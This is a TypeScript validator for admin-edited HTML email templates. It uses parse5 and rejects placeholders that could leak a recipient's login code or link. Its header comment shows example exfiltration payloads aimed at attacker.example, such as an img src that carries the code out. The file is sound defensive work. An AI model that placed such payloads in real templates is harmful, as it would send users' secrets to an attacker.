/**
 * What an HTML email template may contain, and where placeholders may sit in it. An admin
 * who may edit templates must not be able to make mail clients send each recipient's code
 * or link elsewhere: `<img src="https://attacker.example/?c=<%= CODE %>">` does so on
 * opening. The rules:
 * - elements from EMAIL_ELEMENTS only: no stylesheet (CSS selectors can read the link,
 *   `@font-face` the code's digits), no form control (a click submits an option's text),
 *   no `<select>` (browsers disagree on what it may hold), nothing that embeds or runs;
 * - a placeholder stands in text a reader sees; `<%= URL %>` also as the whole `href` of
 *   an `<a>` without `ping`;
 * - the code and the link stand as words of their own in that text, never glued to an
 *   address (`https://attacker.example/<%= CODE %>` turns into a link, and link scanners
 *   fetch links on delivery).
 *
 * Where a placeholder lands is decided as a browser decides it, never by a scanner of our
 * own: the draft is rendered with an unguessable marker per placeholder, parsed by parse5
 * (the WHATWG algorithm, as jsdom uses it), and each marker is looked up in the tree. A
 * marker the parser drops (an end tag's attribute, a repeated attribute) is refused too.
 */
import { defaultTreeAdapter, html as spec, parse, parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import { PLACEHOLDER } from './template';
import { gluedTo, SECRET_PLACEHOLDERS } from './template-words';

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

/** What an email needs: structure, tables, text formatting, links and images. */
const EMAIL_ELEMENTS = new Set(
  [
    'html', 'head', 'body', 'title', 'meta',
    'table', 'caption', 'colgroup', 'col', 'thead', 'tbody', 'tfoot', 'tr', 'td', 'th',
    'div', 'span', 'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'pre', 'center', 'font',
    'a', 'img', 'b', 'strong', 'i', 'em', 'u', 's', 'strike', 'del', 'ins', 'small', 'big', 'sub', 'sup', 'mark',
    'abbr', 'cite', 'q', 'dfn', 'code', 'kbd', 'samp', 'var', 'tt', 'bdi', 'bdo', 'wbr',
    'ul', 'ol', 'li', 'dl', 'dt', 'dd',
    'section', 'article', 'header', 'footer', 'main', 'nav', 'aside', 'figure', 'figcaption', 'address', 'time',
  ]
);
/** Elements whose text is not text a reader sees (of those allowed, only `title` is such). */
const RAW_TEXT = new Set(['style', 'script', 'textarea', 'title', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext']);
/** Elements that start a new line of rendered text: a word cannot run across them. */
const BREAKS = new Set([
  'br', 'hr', 'p', 'div', 'table', 'caption', 'tr', 'td', 'th', 'li', 'ul', 'ol', 'dl', 'dt', 'dd', 'blockquote', 'pre',
  'center', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'section', 'article', 'header', 'footer', 'main', 'nav', 'aside',
  'figure', 'figcaption', 'address', 'title', 'body', 'head', 'html', 'img',
]);
/** Beyond this many placeholders a template is refused unread: each costs a lookup per node. */
const MAX_PLACEHOLDERS = 200;

interface Marker {
  name: string;
  /** Seen where its value stays in the email as text, or as the link itself. */
  safe: boolean;
  /** Seen somewhere else (its reason is already among the problems). */
  refused: boolean;
}

interface Reading {
  markers: Map<string, Marker>;
  find: RegExp;
  problems: Set<string>;
}

/** Each problem of an HTML template, as a reason the admin page shows and the server refuses. */
export function findMarkupProblems(html: string): string[] {
  const placeholders = [...html.matchAll(PLACEHOLDER)];
  if (placeholders.length > MAX_PLACEHOLDERS) return [`more than ${MAX_PLACEHOLDERS} placeholders`];
  const stem = `pl${randomHex()}`;
  const markers = new Map<string, Marker>();
  let index = 0;
  const rendered = html.replace(PLACEHOLDER, (_match, name: string) => {
    const marker = `${stem}q${(index += 1)}q`;
    markers.set(marker, { name, safe: false, refused: false });
    return marker;
  });
  const reading: Reading = { markers, find: new RegExp(`${stem}q\\d+q`, 'g'), problems: new Set() };
  // A mail client parses the email as a document, a webmail often as a fragment inside
  // its own page, with scripting on or off (which decides what <noscript> holds): every
  // reading must find each placeholder in a safe place.
  const page = defaultTreeAdapter.createElement('div', spec.NS.HTML, []);
  const trees = [
    parse(rendered, { scriptingEnabled: true }),
    parse(rendered, { scriptingEnabled: false }),
    parseFragment(page, rendered, { scriptingEnabled: false }),
  ];
  for (const tree of trees) {
    for (const marker of markers.values()) marker.safe = false;
    walk(tree, reading);
    for (const marker of markers.values()) {
      if (!marker.safe && !marker.refused) reading.problems.add(`<%= ${marker.name} %> where an HTML parser drops or moves it`);
    }
  }
  return [...reading.problems];
}

/** Unguessable, so no text (character references included) can spell a marker. */
function randomHex(): string {
  const bytes = new Uint8Array(12);
  globalThis.crypto.getRandomValues(bytes);
  return Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join('');
}

/**
 * Depth first, with a stack of its own (deeply nested markup must not exhaust the call
 * stack). Text is collected into lines, split where rendering starts a new line, to see
 * what a secret placeholder is glued to.
 */
function walk(root: Node, reading: Reading): void {
  const lines: string[] = [];
  let line = '';
  const stack: Array<{ node: Node; rawText: string | null } | 'break'> = [{ node: root, rawText: null }];
  while (stack.length > 0) {
    const entry = stack.pop()!;
    if (entry === 'break') {
      lines.push(line);
      line = '';
      continue;
    }
    const { node, rawText } = entry;
    if (node.nodeName === '#text' && 'value' in node) {
      if (rawText) for (const marker of markersIn(node.value, reading)) refuse(marker, `<%= ${marker.name} %> inside <${rawText}>`, reading);
      else {
        for (const marker of markersIn(node.value, reading)) marker.safe = true;
        line += node.value;
      }
      continue;
    }
    if (node.nodeName === '#comment' && 'data' in node) {
      for (const marker of markersIn(node.data, reading)) refuse(marker, `<%= ${marker.name} %> inside a comment`, reading);
      continue;
    }
    if (node.nodeName === '#documentType' && 'name' in node) {
      for (const marker of markersIn(`${node.name} ${node.publicId} ${node.systemId}`, reading)) {
        refuse(marker, `<%= ${marker.name} %> inside the doctype`, reading);
      }
      continue;
    }
    let inside = rawText;
    if ('tagName' in node) {
      checkElement(node, reading);
      const name = node.tagName.toLowerCase();
      if (RAW_TEXT.has(name)) inside = name;
      if (BREAKS.has(name)) stack.push('break');
    }
    const children: Node[] = 'childNodes' in node ? [...node.childNodes] : [];
    // A <template>'s content is a fragment of its own, not a child.
    if ('content' in node && node.content) children.push(node.content);
    for (let i = children.length - 1; i >= 0; i -= 1) stack.push({ node: children[i], rawText: inside });
    if ('tagName' in node && BREAKS.has(node.tagName.toLowerCase())) stack.push('break');
  }
  lines.push(line);
  for (const text of lines) checkWords(text, reading);
}

/** The element itself, and markers in its tag: allowed only as the whole href of an HTML <a> with no ping, for URL only. */
function checkElement(element: Element, reading: Reading): void {
  const name = element.tagName.toLowerCase();
  const known = element.namespaceURI === spec.NS.HTML && EMAIL_ELEMENTS.has(name);
  if (!known && !markersIn(name, reading).length) reading.problems.add(`<${name}>, which an email template may not hold (${whyNot(name)})`);
  const inTag = (marker: Marker) =>
    refuse(marker, `<%= ${marker.name} %> inside a tag (only <a href="<%= URL %>"> may hold a placeholder there)`, reading);
  for (const marker of markersIn(name, reading)) inTag(marker);
  for (const attribute of element.attrs) {
    for (const marker of markersIn(`${attribute.prefix ?? ''} ${attribute.name}`, reading)) inTag(marker);
    const found = markersIn(attribute.value, reading);
    if (found.length === 0) continue;
    const whole = reading.markers.get(attribute.value);
    const isLink = whole?.name === 'URL' && attribute.name === 'href' && !attribute.namespace && name === 'a' && known;
    if (!whole || !isLink) {
      for (const marker of found) inTag(marker);
    } else if (element.attrs.some((other) => other.name === 'ping')) {
      refuse(whole, '<%= URL %> in an <a> with a ping attribute (a click would post the link elsewhere)', reading);
    } else {
      whole.safe = true;
    }
  }
}

function whyNot(name: string): string {
  if (name === 'style' || name === 'link') return 'a stylesheet can read the link and the code: use style attributes';
  if (['form', 'button', 'input', 'select', 'option', 'optgroup', 'datalist', 'textarea', 'output'].includes(name)) return 'a form could submit the code';
  return 'only text, tables, links and images';
}

/** CODE and URL in rendered text: each a word of its own, not glued to an address a link scanner would fetch. */
function checkWords(text: string, reading: Reading): void {
  for (const match of text.matchAll(reading.find)) {
    const marker = reading.markers.get(match[0]);
    if (!marker || !SECRET_PLACEHOLDERS.includes(marker.name)) continue;
    const glued = gluedTo(text, match.index ?? 0, match[0].length);
    if (!glued) continue;
    const shown = glued.replace(reading.find, (other) => `<%= ${reading.markers.get(other)?.name ?? '?'} %>`);
    refuse(marker, `<%= ${marker.name} %> glued to "${shown}" (a mail client may make it part of a link)`, reading);
  }
}

function refuse(marker: Marker, problem: string, reading: Reading): void {
  marker.refused = true;
  reading.problems.add(problem);
}

function markersIn(text: string, reading: Reading): Marker[] {
  if (!text) return [];
  const found: Marker[] = [];
  for (const match of text.matchAll(reading.find)) {
    const marker = reading.markers.get(match[0]);
    if (marker) found.push(marker);
  }
  return found;
}
